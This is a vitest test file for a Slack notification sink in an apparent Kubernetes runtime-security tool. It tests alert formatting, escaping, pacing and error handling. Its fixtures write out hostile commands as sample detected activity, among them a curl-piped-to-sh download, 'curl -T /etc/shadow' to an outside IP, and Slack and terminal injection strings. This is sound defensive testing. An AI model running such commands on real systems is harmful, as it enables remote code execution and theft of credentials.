import { compileTemplate, type SinkConfigOf, type Template } from "@outlier/routing";
import { afterEach, describe, expect, it } from "vitest";
import { DeliveryError, type Sink } from "./sink.ts";
import { resilient } from "./resilient.ts";
import { secretResolver } from "./secrets.ts";
import { SlackSink, slackChannel, slackPayload, type SlackBlock, type SlackMessage } from "./slack.ts";
import { execSession, hostileFinding, replicaDeviation, serviceAccountToken, unexpectedProcess } from "./testing/findings.ts";
import type { HttpReceiver } from "./testing/http-receiver.ts";
import { deadLetters, delivery, describeHttpSinkContract } from "./testing/sink-contract.ts";
import { rateLimited, startSlackReceiver } from "./testing/slack-receiver.ts";

const WEBHOOK_PATH = "/services/T0001/B0001/s3cr3tW3bh00kPath";
const TOKEN = "xoxb-test-token-123";

function template(source: string): Template {
  const compiled = compileTemplate(source);
  if (!compiled.ok) throw new Error(compiled.error);
  return compiled.template;
}

function blockTexts(message: SlackMessage): string[] {
  return message.attachments[0]!.blocks.flatMap((block: SlackBlock) => {
    if (block.type === "header") return [block.text.text];
    if (block.type === "section") return [block.text?.text ?? "", ...(block.fields ?? []).map((f) => f.text)];
    if (block.type === "context") return block.elements.map((e) => e.text);
    return [];
  });
}

describe("slackPayload", () => {
  it("shows severity, where, the process and its parent, and why, at a glance", () => {
    const message = slackPayload(delivery({ findings: [unexpectedProcess()] }));
    const texts = blockTexts(message).join("\n");
    expect(message.attachments[0]!.color).toBe("#E01E5A");
    expect(message.text).toBe("[CRITICAL] checkout: 1 unexpected process");
    expect(texts).toContain("*Cluster*\nprod-eu");
    expect(texts).toContain("*Namespace*\npayments");
    expect(texts).toContain("*Workload*\nDeployment/checkout");
    expect(texts).toContain("*Pod*\ncheckout-7d9f8-abcde");
    expect(texts).toContain("*Node*\nnode-a");
    expect(texts).toContain("Process: `/usr/bin/curl -s http://10.0.0.9/x?a=1|sh` (pid 4242)");
    expect(texts).toContain("Parent: `/bin/sh -c curl`");
    expect(texts).toContain("ran on 1 of 3 live replicas");
    expect(texts).toContain("baseline locked since 2024-04-27 (42 known processes)");
    expect(texts).toContain("`outlier baseline review payments/Deployment/checkout`");
  });

  it("says why for replica deviations and exec sessions", () => {
    const texts = blockTexts(slackPayload(delivery({ findings: [replicaDeviation(), execSession()] }))).join("\n");
    expect(texts).toContain("ran /bin/nc, which none of its 4 peers ran");
    expect(texts).toContain("12.0 execs/min vs peers' median 1.0 (z 37.1)");
    expect(texts).toContain("kubectl exec by alice@example.com from 10.1.2.3: sh (3 processes)");
  });

  it("says why for an audit rule that explains itself, and what to do", () => {
    const texts = blockTexts(slackPayload(delivery({ findings: [serviceAccountToken()] }))).join("\n");
    expect(texts).toContain("Why: people do not normally mint service-account tokens; the kubelet and controllers do; critical: a kube-system account");
    expect(texts).toContain("What to do: confirm with the person; if not expected, revoke the token and review what the account can do");
  });

  it("says what made an exec session high", () => {
    const reasons = ["reads the password hashes (/etc/shadow)", "moves data out (curl -T)"];
    const riskyProcesses = [
      { binary: "/bin/cat", args: "/etc/shadow", time: "2024-05-01T10:00:01.000000000Z", reasons: reasons.slice(0, 1) },
      { binary: "/usr/bin/curl", args: "-T /etc/shadow https://203.0.113.50", time: "2024-05-01T10:00:02.000000000Z", reasons },
    ];
    const finding = execSession({ severity: "high", evidence: { ...execSession().evidence, riskyProcesses } });
    const texts = blockTexts(slackPayload(delivery({ findings: [finding] }))).join("\n");
    expect(texts).toContain("what ran in it reads the password hashes (/etc/shadow), moves data out (curl -T)");
  });

  it("takes the colour of the highest severity and counts what is not listed", () => {
    const findings = [execSession(), replicaDeviation(), execSession(), execSession(), execSession(), execSession()];
    const message = slackPayload(delivery({ findings, total: 40 }));
    expect(message.attachments[0]!.color).toBe("#E8710A");
    expect(blockTexts(message)).toContain("…and 35 more (40 in all)");
  });

  it("escapes Slack's control characters so a process cannot inject links or mentions", () => {
    const finding = unexpectedProcess({ process: { binary: "/bin/sh", args: "-c 'echo <!channel> <http://evil|x> & `id`'", ancestors: [] } });
    const texts = blockTexts(slackPayload(delivery({ findings: [finding] }))).join("\n");
    expect(texts).toContain("&lt;!channel&gt; &lt;http://evil|x&gt; &amp; ˋidˋ");
    expect(texts).not.toContain("<!channel>");
  });

  it("escapes the group summary in the top-level text too (a forged workload name lands there)", () => {
    const message = slackPayload(delivery({ findings: [unexpectedProcess()], summary: "<!channel> <http://evil.example|login> & co" }));
    expect(message.text).toBe("[CRITICAL] &lt;!channel&gt; &lt;http://evil.example|login&gt; &amp; co");
  });

  it("shows control, bidi and line characters in every field as visible escapes, and no raw <, > or &", () => {
    const finding = hostileFinding();
    const message = slackPayload(delivery({ findings: [finding], summary: finding.summary }));
    const texts = [message.text, ...blockTexts(message)];
    // eslint-disable-next-line no-control-regex
    for (const text of texts) expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/);
    // The header block is plain_text, which Slack shows literally; the top-level text and every mrkdwn text escape <, > and &.
    const mrkdwn = [message.text, ...blockTexts(message).slice(1)];
    for (const text of mrkdwn) expect(text.includes("<") || /&(?!amp;|lt;|gt;)/.test(text)).toBe(false);
    const all = texts.join("\n");
    expect(all).toContain("x\\x1b]0;pwned\\x07\\x1b[2J\\x1b[8m\\r\\x00\\u{202e}\\n&lt;!channel&gt; &lt;http://x|y&gt; &amp; a|b=c\\d");
    for (const field of ["*Pod*\npod", "*Container*\napp", "*Node*\nnode", "*Namespace*\npayments", "*Workload*\nDeployment/checkout"]) {
      expect(all).toContain(`${field}x\\x1b]0;`);
    }
    expect(all).toContain("Process: `/tmp/x\\x1b]0;");
    expect(all).toContain("Parent: `/bin/x\\x1b]0;");
  });

  it("renders the channel template with the first finding's annotations", () => {
    const config = { kind: "slack", channel: template('{{ annotations["outlier.dev/slack-channel"] | default "#security" }}'), api_url_env: "X" } as SinkConfigOf<"slack">;
    expect(slackChannel(config, delivery())).toBe("#payments-oncall");
    const bare = unexpectedProcess({ workload: { ...unexpectedProcess().workload!, annotations: {} } });
    expect(slackChannel(config, delivery({ findings: [bare] }))).toBe("#security");
  });
});

describe("SlackSink over an Incoming Webhook", () => {
  let receiver: HttpReceiver;
  afterEach(async () => receiver.close());

  async function webhookSink(): Promise<SlackSink> {
    receiver = await startSlackReceiver({ webhookPath: WEBHOOK_PATH, token: TOKEN, channels: [] });
    const secrets = secretResolver({ env: { SLACK_URL: `${receiver.url}${WEBHOOK_PATH}` } });
    return new SlackSink({ kind: "slack", api_url_env: "SLACK_URL" } as SinkConfigOf<"slack">, secrets);
  }

  it("posts Block Kit JSON that the webhook accepts", async () => {
    const sink = await webhookSink();
    await sink.deliver(delivery());
    const posted = JSON.parse(receiver.requests[0]!.body) as SlackMessage;
    expect(posted.attachments[0]!.blocks[0]).toMatchObject({ type: "header" });
    await sink.close();
  });

  it("reports a plain-text error (404 no_service) as rejected, not retryable", async () => {
    const sink = await webhookSink();
    receiver.script({ status: 404, body: "no_service" });
    const error = await sink.deliver(delivery()).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(DeliveryError);
    expect(error).toMatchObject({ reason: "rejected", retryable: false, status: 404, message: "HTTP 404: no_service" });
    await sink.close();
  });

  it("reads a 429's Retry-After seconds", async () => {
    const sink = await webhookSink();
    receiver.script(rateLimited(7));
    await expect(sink.deliver(delivery())).rejects.toMatchObject({ reason: "rate_limited", retryable: true, retryAfterMs: 7_000 });
    await sink.close();
  });

  it("sends at most one message per second per channel, queueing the rest", async () => {
    const sink = await webhookSink();
    // Measured where the sends start: arrival times at the server jitter with connection setup.
    const started: number[] = [];
    const timed: Sink = { name: sink.name, pacing: sink.pacing, deliver: (d, signal) => (started.push(Date.now()), sink.deliver(d, signal)), close: () => sink.close() };
    const { letters, options } = deadLetters();
    const wrapped = resilient(timed, options);
    await Promise.all([1, 2, 3].map(() => wrapped.deliver(delivery())));
    expect(receiver.requests).toHaveLength(3);
    // The pacer spaces the turns 1 s apart; a loaded event loop may start the first send a
    // few ms after its turn, so the starts may be slightly closer than the turns.
    expect(started[1]! - started[0]!).toBeGreaterThanOrEqual(950);
    expect(started[2]! - started[1]!).toBeGreaterThanOrEqual(950);
    expect(letters).toEqual([]);
    await sink.close();
  });
});

describe("SlackSink over chat.postMessage", () => {
  let receiver: HttpReceiver;
  afterEach(async () => receiver.close());

  async function apiSink(token = TOKEN, channel = "#payments-oncall"): Promise<SlackSink> {
    receiver = await startSlackReceiver({ webhookPath: WEBHOOK_PATH, token: TOKEN, channels: ["#payments-oncall"] });
    const config = { kind: "slack", token_env: "SLACK_TOKEN", channel: template(channel) } as SinkConfigOf<"slack">;
    return new SlackSink(config, secretResolver({ env: { SLACK_TOKEN: token } }), { apiBaseUrl: `${receiver.url}/api` });
  }

  it("posts to the channel with the bot token", async () => {
    const sink = await apiSink();
    await sink.deliver(delivery());
    expect(receiver.requests[0]!.headers.authorization).toBe(`Bearer ${TOKEN}`);
    expect(JSON.parse(receiver.requests[0]!.body)).toMatchObject({ channel: "#payments-oncall" });
    await sink.close();
  });

  it("turns 200 {ok:false} into a rejection with Slack's error code", async () => {
    const sink = await apiSink(TOKEN, "#nowhere");
    await expect(sink.deliver(delivery())).rejects.toMatchObject({ reason: "rejected", retryable: false, message: "chat.postMessage: channel_not_found" });
    await sink.close();
  });

  it("rejects a wrong token as invalid_auth", async () => {
    const sink = await apiSink("xoxb-wrong");
    await expect(sink.deliver(delivery())).rejects.toMatchObject({ reason: "rejected", message: "chat.postMessage: invalid_auth" });
    await sink.close();
  });

  it("retries Slack's temporary errors", async () => {
    const sink = await apiSink();
    receiver.script({ status: 200, headers: { "content-type": "application/json" }, body: JSON.stringify({ ok: false, error: "service_unavailable" }) });
    await expect(sink.deliver(delivery())).rejects.toMatchObject({ reason: "server_error", retryable: true });
    await sink.close();
  });
});

describeHttpSinkContract("slack (webhook)", {
  async start() {
    const receiver = await startSlackReceiver({ webhookPath: WEBHOOK_PATH, token: TOKEN, channels: [] });
    const secrets = secretResolver({ env: { SLACK_URL: `${receiver.url}${WEBHOOK_PATH}` } });
    const sink = new SlackSink({ kind: "slack", api_url_env: "SLACK_URL" } as SinkConfigOf<"slack">, secrets);
    return {
      sink,
      receiver,
      accepted: () => receiver.requests.filter((r) => r.status === 200).length,
      close: async () => {
        await sink.close();
        await receiver.close();
      },
    };
  },
  rateLimited,
  serverError: { status: 500, body: "rollup_error" },
});
